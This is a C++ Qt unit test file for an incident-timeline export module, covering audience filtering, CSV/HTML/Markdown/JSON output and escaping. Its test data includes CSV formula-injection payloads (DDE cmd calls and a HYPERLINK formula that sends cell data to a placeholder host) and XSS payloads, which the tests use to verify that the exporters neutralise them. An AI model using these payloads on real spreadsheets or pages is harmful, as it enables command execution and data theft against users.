#include "models/core/digest.h"
#include "models/exchange/csvrows.h"
#include "models/exchange/format.h"
#include "models/exchange/formulas.h"
#include "models/exchange/writers.h"
#include "tests/unit/exchange/samplestory.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>

using namespace muster;
using namespace muster::test;

namespace {

/// A device that takes only so many bytes.
class FullDevice final : public QIODevice
{
public:
    explicit FullDevice(qint64 room)
        : m_room(room)
    {
        open(QIODevice::WriteOnly | QIODevice::Unbuffered);
    }

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *, qint64 size) override
    {
        const qint64 taken = qMin(size, m_room);
        m_room -= taken;
        return taken > 0 ? taken : -1;
    }

private:
    qint64 m_room;
};

QList<QList<QByteArray>> rowsOf(const QByteArray &csv)
{
    QList<QList<QByteArray>> rows;
    bool given = false;
    CsvRows source([&]() -> Result<QByteArray> { return std::exchange(given, true) ? QByteArray() : csv; },
                   ',');
    for (QList<QByteArray> row;;) {
        const Result<bool> any = source.next(row);
        if (!any || !*any)
            return rows;
        rows.append(row);
    }
}

void addFormats()
{
    QTest::addColumn<QString>("id");
    for (const char *id : {"html", "md", "txt", "csv", "json"})
        QTest::newRow(id) << QString::fromLatin1(id);
}

QByteArray exported(const QString &id, const Story &story, const Telling &telling)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Result<> done = formatOf(id)->write(story, telling, buffer);
    return done ? buffer.data() : QByteArray();
}

Story storyOfText(const QString &text) { return storyOf({entryAt(1, 0, Kind::Note, text, text)}); }

QList<Event> sampleEvents()
{
    Event event;
    event.id = idOf(1);
    event.incident = idOf(99);
    event.device = idOf(7);
    event.deviceSeq = 1;
    event.recorded = recordedAt(two) | 3;
    event.occurred = two + 7;
    event.type = "entry.logged";
    event.salt = QByteArray(16, '\x5a');
    event.body = QByteArray("{\"by\":\"Kai \\\"K\\\" Wu\",\"text\":\"值班 \\ud83d\\ude00 \\n\"}");
    event.digest = sha256({event.salt, event.body});
    event.hash = sha256({event.digest});
    Event stub = event;
    stub.id = idOf(2);
    stub.deviceSeq = 2;
    stub.salt.clear();
    stub.body.clear();
    Event future = event;
    future.id = idOf(3);
    future.deviceSeq = 3;
    future.type = "weather.noted";
    return {event, stub, future};
}

} // namespace

class ExchangeWrite : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void whoMayRead_data();
    void whoMayRead();
    void sameStorySameBytes_data() { addFormats(); }
    void sameStorySameBytes();
    void customersReadNothingInternal_data() { addFormats(); }
    void customersReadNothingInternal();
    void vendorsReadWhatIsMarkedForThem_data() { addFormats(); }
    void vendorsReadWhatIsMarkedForThem();
    void everyExportStatesHeadAndZone_data() { addFormats(); }
    void everyExportStatesHeadAndZone();
    void aFullDeviceIsSaid_data() { addFormats(); }
    void aFullDeviceIsSaid();
    void anErrorOfTheStoryPasses_data() { addFormats(); }
    void anErrorOfTheStoryPasses();
    void fileNamesHideTheTitle();
    void jsonHoldsTheRecord();
    void jsonKeepsOddText();
    void formulasAreNeutral_data();
    void formulasAreNeutral();
    void csvReadsBack();
    void pagesHoldNoMarkupOfUsers_data();
    void pagesHoldNoMarkupOfUsers();
    void pageIsSelfContained();
    void strikesAreToldWithReasonAndCorrection();
    void daysAndOffsetsBeginAnew();
    void chatLinesCannotBeFaked();
    void bundleReadsBack();
    void bundleIsForInternalReadersOnly();
};

void ExchangeWrite::whoMayRead_data()
{
    QTest::addColumn<int>("audience");
    QTest::addColumn<int>("kind");
    QTest::addColumn<QString>("state");
    QTest::addColumn<QString>("readers");
    const auto row = [](const char *name, Audience a, Kind k, const char *state, const char *readers) {
        QTest::newRow(name) << static_cast<int>(a) << static_cast<int>(k) << QString::fromLatin1(state)
                            << QString::fromLatin1(readers);
    };
    row("internal", Audience::Internal, Kind::Note, "", "i");
    row("restricted", Audience::Restricted, Kind::Note, "", "i");
    row("vendor", Audience::Vendor, Kind::Note, "", "iv");
    row("public", Audience::Public, Kind::Note, "", "icv");
    row("update", Audience::Public, Kind::Update, "", "icv");
    row("struck", Audience::Public, Kind::Update, "struck", "i");
    row("erased", Audience::Public, Kind::Update, "erased", "i");
    row("pending", Audience::Public, Kind::Update, "pending", "");
    row("a public role names a person", Audience::Public, Kind::Role, "", "iv");
    row("a public severity", Audience::Public, Kind::Severity, "", "iv");
}

void ExchangeWrite::whoMayRead()
{
    QFETCH(int, audience);
    QFETCH(int, kind);
    QFETCH(QString, state);
    QFETCH(QString, readers);
    Entry entry = entryAt(1, 0, static_cast<Kind>(kind), QStringLiteral("Kai"), QStringLiteral("x"));
    entry.audience = static_cast<Audience>(audience);
    entry.struck = state == QLatin1String("struck");
    entry.erased = state == QLatin1String("erased");
    entry.pending = state == QLatin1String("pending");
    QCOMPARE(mayRead(Reader::Internal, entry), readers.contains(u'i'));
    QCOMPARE(mayRead(Reader::Customer, entry), readers.contains(u'c'));
    QCOMPARE(mayRead(Reader::Vendor, entry), readers.contains(u'v'));
}

void ExchangeWrite::sameStorySameBytes()
{
    QFETCH(QString, id);
    const QByteArray first = exported(id, storyOf(sampleEntries()), tellingTo(Reader::Internal));
    QVERIFY(!first.isEmpty());
    QCOMPARE(exported(id, storyOf(sampleEntries()), tellingTo(Reader::Internal)), first);
}

void ExchangeWrite::customersReadNothingInternal()
{
    QFETCH(QString, id);
    const QString text =
        QString::fromUtf8(exported(id, storyOf(sampleEntries()), tellingTo(Reader::Customer)));
    for (const QString &fact : internalFacts())
        QVERIFY2(!text.contains(fact, Qt::CaseInsensitive), qPrintable(fact));
    QVERIFY(text.contains(QLatin1String("About one in three orders")));
    QVERIFY(text.contains(QStringLiteral("已恢复")));
    QVERIFY(text.contains(QLatin1String("INC-0042")));
    QVERIFY(text.contains(QLatin1String("identified"), Qt::CaseInsensitive));
    QVERIFY(!text.contains(QLatin1String("All is well")));
}

void ExchangeWrite::vendorsReadWhatIsMarkedForThem()
{
    QFETCH(QString, id);
    const QString text = QString::fromUtf8(exported(id, storyOf(sampleEntries()), tellingTo(Reader::Vendor)));
    for (const char *hidden :
         {"Aurora", "db-07", "90,000", "Ask the", "failed over", "wrong host", "pagerduty", "Noa Berg"})
        QVERIFY2(!text.contains(QLatin1String(hidden)), hidden);
    QVERIFY(text.contains(QLatin1String("Northgate can raise")));
    QVERIFY(text.contains(QLatin1String("Ines Roy")));
}

void ExchangeWrite::everyExportStatesHeadAndZone()
{
    QFETCH(QString, id);
    const QByteArray text =
        exported(id, storyOf({}), tellingTo(Reader::Internal, QStringLiteral("Asia/Shanghai")));
    QVERIFY(text.contains(QByteArray(64, 'a')));
    QVERIFY(text.contains("occurred"));
    QVERIFY(text.contains("recorded"));
    QVERIFY(text.contains(id == QLatin1String("json")  ? "\"zone\":\"UTC\""
                          : id == QLatin1String("csv") ? ",zone,"
                                                       : "Asia/Shanghai"));
}

void ExchangeWrite::aFullDeviceIsSaid()
{
    QFETCH(QString, id);
    QList<Entry> many;
    for (int i = 0; i < 3000; ++i)
        many += entryAt(i % 100, i, Kind::Note, QStringLiteral("Kai"),
                        QStringLiteral("one more line of the log"));
    for (const qint64 room : {0, 100, 70'000}) {
        FullDevice device(room);
        const Result<> done = formatOf(id)->write(storyOf(many), tellingTo(Reader::Internal), device);
        QVERIFY(!done);
        QCOMPARE(done.error().kind, Failure::Unwritable);
    }
}

void ExchangeWrite::anErrorOfTheStoryPasses()
{
    QFETCH(QString, id);
    Story story = storyOf({});
    story.entries = [](const std::function<Result<>(const Entry &)> &) -> Result<> {
        return unreadable(say("short read"));
    };
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Result<> done = formatOf(id)->write(story, tellingTo(Reader::Internal), buffer);
    QVERIFY(!done);
    QCOMPARE(done.error().what.source, QByteArray("short read"));
}

void ExchangeWrite::fileNamesHideTheTitle()
{
    const Story story = storyOf({});
    QCOMPARE(exportFileName(story, tellingTo(Reader::Internal), *formatOf(QStringLiteral("html"))),
             QStringLiteral("INC-0042-timeline-internal.html"));
    QCOMPARE(exportFileName(story, tellingTo(Reader::Customer), *formatOf(QStringLiteral("csv"))),
             QStringLiteral("INC-0042-timeline-customer.csv"));
    QVERIFY(!formatOf(QStringLiteral("nonsense")));
}

void ExchangeWrite::jsonHoldsTheRecord()
{
    const QJsonObject all = QJsonDocument::fromJson(exported(QStringLiteral("json"), storyOf(sampleEntries()),
                                                             tellingTo(Reader::Internal)))
                                .object();
    QCOMPARE(all.value(QLatin1String("muster")).toInt(), 1);
    QCOMPARE(all.value(QLatin1String("incident")).toObject().value(QLatin1String("number")).toString(),
             QStringLiteral("INC-0042"));
    QCOMPARE(all.value(QLatin1String("sort")).toString(), QStringLiteral("occurred, recorded, id"));
    const QJsonArray entries = all.value(QLatin1String("entries")).toArray();
    QCOMPARE(entries.size(), sampleEntries().size());
    const QJsonObject struck = entries.at(3).toObject();
    QCOMPARE(struck.value(QLatin1String("occurred")).toString(),
             QStringLiteral("2026-11-19T06:33:00.000000Z"));
    QCOMPARE(struck.value(QLatin1String("struck")).toBool(), true);
    QCOMPARE(struck.value(QLatin1String("struck_reason")).toString(), QStringLiteral("read the wrong host"));
    QCOMPARE(struck.value(QLatin1String("corrected_by")).toString(), idOf(5).toString());
    QCOMPARE(entries.at(5).toObject().value(QLatin1String("late")).toBool(), true);
    QCOMPARE(entries.at(6).toObject().value(QLatin1String("channel")).toString(),
             QStringLiteral("statuspage"));
}

void ExchangeWrite::jsonKeepsOddText()
{
    const QString odd =
        QStringLiteral("\"\\\b\f\n\r\t/") + QChar(1) + QChar(0x7f) + QStringLiteral("é 值 😀 \u2028 end");
    const QJsonObject all = QJsonDocument::fromJson(exported(QStringLiteral("json"), storyOfText(odd),
                                                             tellingTo(Reader::Internal)))
                                .object();
    QCOMPARE(all.value(QLatin1String("entries"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QLatin1String("text"))
                 .toString(),
             odd);
    const QString lone = QStringLiteral("a") + QChar(0xd800) + QStringLiteral("b");
    QVERIFY(exported(QStringLiteral("json"), storyOfText(lone), tellingTo(Reader::Internal))
                .contains("a\xef\xbf\xbd"
                          "b"));
}

void ExchangeWrite::formulasAreNeutral_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<bool>("runs");
    const QStringList hostile{QStringLiteral("=cmd|' /C calc'!A0"),
                              QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
                              QStringLiteral("+hack(cmd|'/c calc.exe'!A"),
                              QStringLiteral("-2+3+cmd|'/C calc'!A1"),
                              QStringLiteral("--1-cmd|'/C calc'!'A1'"),
                              QStringLiteral("\t=\tc\tm\td\t|'/C notepad'!'A2'"),
                              QStringLiteral("=\ncmd|'/C calc'!A1"),
                              QStringLiteral("\r=1"),
                              QStringLiteral("  =1+1"),
                              QStringLiteral("＝1+1"),
                              QStringLiteral("＋1"),
                              QStringLiteral("－1+2"),
                              QStringLiteral("＠SUM(1)"),
                              QStringLiteral("\u200b=1+1"),
                              QStringLiteral("\u00a0@x"),
                              QStringLiteral("\n=1"),
                              QStringLiteral("-"),
                              QStringLiteral("-5-3"),
                              QStringLiteral("+1e5"),
                              QStringLiteral("'=1"),
                              QStringLiteral("''=1"),
                              QStringLiteral("=HYPERLINK(\"http://x?\"&A1, \"Click\")"),
                              QStringLiteral("=")};
    for (const QString &cell : hostile)
        QTest::newRow(cell.toUtf8().toPercentEncoding().left(40).constData()) << cell << true;
    const QStringList harmless{
        QStringLiteral("-5"),       QStringLiteral("+3.2"),  QStringLiteral("-0,5"),
        QStringLiteral("5"),        QStringLiteral("a=b"),   QString(),
        QStringLiteral("'quoted'"), QStringLiteral("a\n=b"), QStringLiteral("\"=cmd|'/C calc'!'A1'\""),
        QStringLiteral("it's -5")};
    for (const QString &cell : harmless)
        QTest::newRow(
            qPrintable(QStringLiteral("harmless ") + QString::fromLatin1(cell.toUtf8().toPercentEncoding())))
            << cell << false;
}

void ExchangeWrite::formulasAreNeutral()
{
    QFETCH(QString, cell);
    QFETCH(bool, runs);
    QCOMPARE(neutral(cell) != cell, runs);
    QCOMPARE(plain(neutral(cell)), cell);
    const auto rows = rowsOf(exported(QStringLiteral("csv"), storyOfText(cell), tellingTo(Reader::Internal)));
    QCOMPARE(rows.size(), 2);
    QCOMPARE(rows.at(1).size(), rows.at(0).size());
    QCOMPARE(QString::fromUtf8(rows.at(1).at(5)), runs ? QString(u'\'' + cell) : cell);
}

void ExchangeWrite::csvReadsBack()
{
    const QByteArray csv =
        exported(QStringLiteral("csv"), storyOf(sampleEntries()), tellingTo(Reader::Internal));
    QVERIFY(csv.startsWith("occurred,recorded,kind,by,recorded_by,text,audience,struck,reason,late,corrects,"
                           "channel,id,incident,zone,"));
    QCOMPARE(csv.count("\r\n"), sampleEntries().size() + 1);
    const auto rows = rowsOf(csv);
    QCOMPARE(rows.size(), sampleEntries().size() + 1);
    for (const auto &row : rows)
        QCOMPARE(row.size(), rows.at(0).size());
    QCOMPARE(rows.at(1).at(0), QByteArray("2026-11-19T14:00:00.000000+08:00"));
    QCOMPARE(QString::fromUtf8(rows.at(12).at(5)), sampleEntries().at(11).text);
    QCOMPARE(rows.at(13).constLast(), QByteArray("13"));
}

void ExchangeWrite::pagesHoldNoMarkupOfUsers_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("script") << QStringLiteral("<script>alert(1)</script>");
    QTest::newRow("image") << QStringLiteral("\"><img src=x onerror=alert(1)>");
    QTest::newRow("attribute") << QStringLiteral("' onmouseover='alert(1)");
    QTest::newRow("markdown link") << QStringLiteral("[x](javascript:alert(1)) ![i](http://x/y.png)");
    QTest::newRow("markdown table") << QStringLiteral("a | b\n|---|---|\n| c | d");
    QTest::newRow("markdown words") << QStringLiteral("**bold** _it_ `code` ~~no~~ # h <!-- c -->");
    QTest::newRow("entity") << QStringLiteral("&lt;b&gt; &#60;script&#62;");
    QTest::newRow("comment") << QStringLiteral("--></title></style><b>");
    QTest::newRow("control") << QStringLiteral("\x1b[31mred\x1b[0m") + QChar(0x202e) +
                                    QStringLiteral("txt.exe");
}

void ExchangeWrite::pagesHoldNoMarkupOfUsers()
{
    QFETCH(QString, text);
    Story story = storyOfText(text);
    story.state.title = text;
    story.state.roles.insert(Role::Commander, text);
    const QString html =
        QString::fromUtf8(exported(QStringLiteral("html"), story, tellingTo(Reader::Internal)));
    QVERIFY(!html.contains(QLatin1String("<script")) && !html.contains(QLatin1String("<img")) &&
            !html.contains(QLatin1String("<!--")));
    QVERIFY(!html.contains(QRegularExpression(QStringLiteral("<[^>]*\\son\\w+\\s*="))));
    QCOMPARE(html.count(QLatin1String("</title>")), 1);
    QCOMPARE(html.count(QLatin1String("<b>")), 0);
    const QString md = QString::fromUtf8(exported(QStringLiteral("md"), story, tellingTo(Reader::Internal)));
    QVERIFY(!md.contains(QRegularExpression(QStringLiteral("<(?!br>)"))));
    QVERIFY(!md.contains(QRegularExpression(QStringLiteral("(?<!\\\\)[`\\[\\]_]"))));
    // Heading, facts, names, line, day, one entry: a text adds no line.
    QCOMPARE(md.count(QLatin1String("\n|")), 4);
    const QString txt =
        QString::fromUtf8(exported(QStringLiteral("txt"), story, tellingTo(Reader::Internal)));
    for (const QString &page : {html, md, txt})
        QVERIFY(!page.contains(QChar(0x1b)) && !page.contains(QChar(0x202e)));
}

void ExchangeWrite::pageIsSelfContained()
{
    const QByteArray html =
        exported(QStringLiteral("html"), storyOf(sampleEntries()), tellingTo(Reader::Internal));
    const QByteArray style =
        html.mid(html.indexOf("<style>") + 7, html.indexOf("</style>") - html.indexOf("<style>") - 7);
    QVERIFY(html.contains(
        QByteArray("default-src 'none'; style-src 'sha256-" + sha256({style}).toBase64() + "'")));
    for (const char *outside : {"http://", "https://", "url(", "@import", "<script", "<link", " style="})
        QVERIFY2(!html.contains(outside), outside);
    for (const char *needed : {"<html lang=\"en\">", "<caption>", "scope=\"col\"", "@page",
                               "prefers-color-scheme", "dir=\"auto\""})
        QVERIFY2(html.contains(needed), needed);
    QVERIFY(exported(QStringLiteral("html"), storyOf({}),
                     tellingTo(Reader::Internal, QStringLiteral("UTC"), QStringLiteral("zh_CN")))
                .contains("<html lang=\"zh-Hans\">"));
}

void ExchangeWrite::strikesAreToldWithReasonAndCorrection()
{
    const QByteArray html =
        exported(QStringLiteral("html"), storyOf(sampleEntries()), tellingTo(Reader::Internal));
    QVERIFY(html.contains("Struck 14:35 by Noa Berg: read the wrong host"));
    QVERIFY(html.contains(QByteArray("href=\"#e-" + idOf(5).toString().toLatin1() + '"')));
    QVERIFY(html.contains(QByteArray(" id=\"e-" + idOf(5).toString().toLatin1() + '"')));
    QVERIFY(html.contains("corrects 14:33"));
    QVERIFY(html.contains("noted 14:52"));
    const QByteArray md =
        exported(QStringLiteral("md"), storyOf(sampleEntries()), tellingTo(Reader::Internal));
    QVERIFY(md.contains("~~DB primary failed over.~~<br>Struck 14:35 by Noa Berg: read the wrong host"));
    const QByteArray txt =
        exported(QStringLiteral("txt"), storyOf(sampleEntries()), tellingTo(Reader::Internal));
    QVERIFY(txt.contains("[Struck 14:35 by Noa Berg: read the wrong host] DB primary failed over. (Kai Wu)"));
}

void ExchangeWrite::daysAndOffsetsBeginAnew()
{
    // Berlin, 2026-10-25: the clock goes back at 01:00 UTC.
    const qint64 before = *parseStamp(QStringLiteral("2026-10-25T00:30:00Z"));
    QList<Entry> entries;
    for (const qint64 at : {before, before + hour, before + 24 * hour}) {
        entries += entryAt(static_cast<int>(entries.size()) + 1, 0, Kind::Note, QStringLiteral("Kai"),
                           QStringLiteral("tick"));
        entries.last().occurred = at;
        entries.last().recorded = recordedAt(at);
    }
    const QByteArray txt = exported(QStringLiteral("txt"), storyOf(entries),
                                    tellingTo(Reader::Internal, QStringLiteral("Europe/Berlin")));
    QVERIFY(txt.contains("\n2026-10-25 UTC+2\n02:30 Note"));
    QVERIFY(txt.contains("\n2026-10-25 UTC+1\n02:30 Note"));
    QVERIFY(txt.contains("\n2026-10-26 UTC+1\n01:30 Note"));
    const QByteArray csv = exported(QStringLiteral("csv"), storyOf(entries),
                                    tellingTo(Reader::Internal, QStringLiteral("Europe/Berlin")));
    QVERIFY(csv.contains("2026-10-25T02:30:00.000000+02:00") &&
            csv.contains("2026-10-25T02:30:00.000000+01:00"));
}

void ExchangeWrite::chatLinesCannotBeFaked()
{
    const QByteArray txt = exported(
        QStringLiteral("txt"), storyOfText(QStringLiteral("all fine\n14:59 Decision  We stop (Mei Tan)")),
        tellingTo(Reader::Internal));
    QVERIFY(!txt.contains("\n14:59"));
    QVERIFY(txt.contains("\n       14:59 Decision"));
}

void ExchangeWrite::bundleReadsBack()
{
    const QList<Event> events = sampleEvents();
    Story story = storyOf({});
    story.events = [&](const std::function<Result<>(const Event &)> &take) -> Result<> {
        for (const Event &event : events)
            MUSTER_TRY(take(event));
        return {};
    };
    QTemporaryDir folder;
    const QString path = folder.filePath(QStringLiteral("x.jsonl"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QVERIFY(writeJsonl(story, tellingTo(Reader::Internal), file).has_value());
    file.close();
    const Result<Bundle> bundle = readWholeBundle(path);
    QVERIFY(bundle.has_value());
    QCOMPARE(bundle->incident, idOf(99));
    QCOMPARE(bundle->head, story.head);
    QCOMPARE(bundle->events.size(), 3);
    for (int i = 0; i < 3; ++i) {
        const Event &a = events.at(i), &b = bundle->events.at(i);
        QCOMPARE(b.id, a.id);
        QCOMPARE(b.device, a.device);
        QCOMPARE(b.deviceSeq, a.deviceSeq);
        QCOMPARE(b.recorded, a.recorded);
        QCOMPARE(b.occurred, a.occurred);
        QCOMPARE(b.type, a.type);
        QCOMPARE(b.digest, a.digest);
        QCOMPARE(b.hash, a.hash);
        QCOMPARE(b.salt, a.salt);
        QCOMPARE(b.body, a.body);
    }
}

void ExchangeWrite::bundleIsForInternalReadersOnly()
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    const Result<> done = writeJsonl(storyOf({}), tellingTo(Reader::Customer), buffer);
    QVERIFY(!done);
    QCOMPARE(done.error().kind, Failure::Usage);
    QVERIFY(buffer.data().isEmpty());
}

QTEST_GUILESS_MAIN(ExchangeWrite)
#include "tst_exchange_write.moc"
